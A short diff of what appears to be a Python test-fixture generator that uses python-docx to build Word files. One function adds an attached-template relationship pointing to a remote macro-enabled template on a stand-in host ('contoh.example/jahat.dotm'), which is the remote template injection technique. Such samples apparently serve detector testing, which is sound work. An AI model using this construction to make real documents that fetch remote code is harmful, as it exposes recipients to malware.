@@ -80,7 +80,9 @@ def with_simple_field(document: Document) -> None:
 def with_template(document: Document) -> None:
     settings = document.settings
     found = document.part._settings_part.relate_to(
-        "http://contoh.example/jahat.dotm", f"{RELATIONSHIP_TYPE.SETTINGS.rpartition(chr(47))[0]}/attachedTemplate", True
+        "http://contoh.example/jahat.dotm",
+        f"{RELATIONSHIP_TYPE.SETTINGS.rpartition(chr(47))[0]}/attachedTemplate",
+        True,
     )
     settings.element.insert(0, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{found}"/>'))
 
